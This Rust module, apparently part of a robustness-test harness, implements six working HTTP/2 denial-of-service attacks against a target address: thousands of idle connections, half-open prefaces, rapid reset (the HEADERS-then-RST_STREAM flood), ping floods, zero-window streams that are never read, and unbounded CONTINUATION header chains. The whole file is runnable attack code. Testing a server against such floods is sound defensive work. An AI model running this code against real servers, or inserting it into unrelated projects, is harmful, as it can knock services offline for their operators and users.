//! What a connection can do to a server of HTTP/2 that a client wouldn't, frame by frame.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Connections that stay and do nothing.
const IDLE: usize = 5_000;
/// Connections of the attacks that do something.
const BUSY: usize = 16;
/// Frames written at once.
const BURST: usize = 64;
/// After a connection was refused or hung up on, before the next.
const PAUSE: Duration = Duration::from_millis(20);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// SETTINGS_INITIAL_WINDOW_SIZE = 0: nothing may be sent to us.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// A way to do harm.
#[derive(Clone, Copy, Debug)]
pub(super) enum Attack {
    IdleConnections,
    HalfOpen,
    RapidReset,
    PingFlood,
    NeverReading,
    EndlessHeaders,
}

impl Attack {
    pub(super) const ALL: [Self; 6] = [
        Self::IdleConnections,
        Self::HalfOpen,
        Self::RapidReset,
        Self::PingFlood,
        Self::NeverReading,
        Self::EndlessHeaders,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::IdleConnections => "5,000 idle connections",
            Self::HalfOpen => "connections that say nothing",
            Self::RapidReset => "rapid reset",
            Self::PingFlood => "ping flood",
            Self::NeverReading => "streams that are never read",
            Self::EndlessHeaders => "headers without an end",
        }
    }

    /// Goes on until it is aborted.
    pub(super) fn begin(self, victim: SocketAddr) -> JoinSet<()> {
        let connections = if matches!(self, Self::IdleConnections) { IDLE } else { BUSY };
        let mut attackers = JoinSet::new();
        for _ in 0..connections {
            attackers.spawn(async move {
                loop {
                    let _ = self.attack(victim).await;
                    sleep(PAUSE).await;
                }
            });
        }
        attackers
    }

    async fn attack(self, victim: SocketAddr) -> std::io::Result<()> {
        let mut connection = TcpStream::connect(victim).await?;
        if matches!(self, Self::HalfOpen) {
            // Half a preface, and then nothing.
            connection.write_all(&PREFACE[..10]).await?;
            return hold(&mut connection).await;
        }
        let settings: &[u8] = if matches!(self, Self::NeverReading) { &NO_WINDOW } else { &[] };
        connection.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
        match self {
            Self::IdleConnections | Self::HalfOpen => return hold(&mut connection).await,
            Self::NeverReading => {
                for stream in (1..400).step_by(2) {
                    connection.write_all(&call(stream)).await?;
                }
                // Not a byte is read.
                loop {
                    sleep(Duration::from_secs(1)).await;
                }
            }
            _ => {}
        }
        let (mut from, mut to) = connection.split();
        let mut ignored = [0; 4_096];
        let shout = async {
            let mut stream = 1_u32;
            loop {
                to.write_all(&self.burst(&mut stream)).await?;
                if stream > 1 << 30 {
                    break;
                }
                tokio::task::yield_now().await;
            }
            std::io::Result::Ok(())
        };
        // Until it hangs up.
        let listen = async {
            while from.read(&mut ignored).await? > 0 {}
            std::io::Result::Ok(())
        };
        tokio::select! {
            ended = shout => ended,
            ended = listen => ended,
        }
    }

    fn burst(self, stream: &mut u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        for _ in 0..BURST {
            match self {
                Self::RapidReset => {
                    bytes.extend(call(*stream));
                    bytes.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
                    *stream += 2;
                }
                Self::EndlessHeaders => {
                    let kind = if *stream == 1 { HEADERS } else { CONTINUATION };
                    // Literal headers, never indexed: each makes the list longer.
                    let block = [&[0x10, 1, b'x', 64][..], &[b'y'; 64]].concat();
                    bytes.extend(frame(kind, 0, 1, &block));
                    *stream = 3;
                }
                _ => bytes.extend(frame(PING, 0, 0, &[0; 8])),
            }
        }
        bytes
    }
}

/// Reads until the other side hangs up.
async fn hold(connection: &mut TcpStream) -> std::io::Result<()> {
    let mut ignored = [0; 1_024];
    while connection.read(&mut ignored).await? > 0 {}
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A call of reflection or health by its headers, and an empty message: what costs a server something and needs nothing to be there.
fn call(stream: u32) -> Vec<u8> {
    // POST, http; then literals: the path and the authority by their indices, and a name of its own.
    let mut block = vec![0x83, 0x86];
    literal(&mut block, 4, b"/grpc.health.v1.Health/Watch");
    literal(&mut block, 1, b"victim");
    block.extend([0x00, 12]);
    block.extend(b"content-type");
    block.push(16);
    block.extend(b"application/grpc");
    let headers = frame(HEADERS, END_HEADERS, stream, &block);
    [headers, frame(DATA, END_STREAM, stream, &[0; 5])].concat()
}

fn literal(block: &mut Vec<u8>, name: u8, value: &[u8]) {
    block.push(name);
    block.push(u8::try_from(value.len()).unwrap_or(127));
    block.extend(value);
}
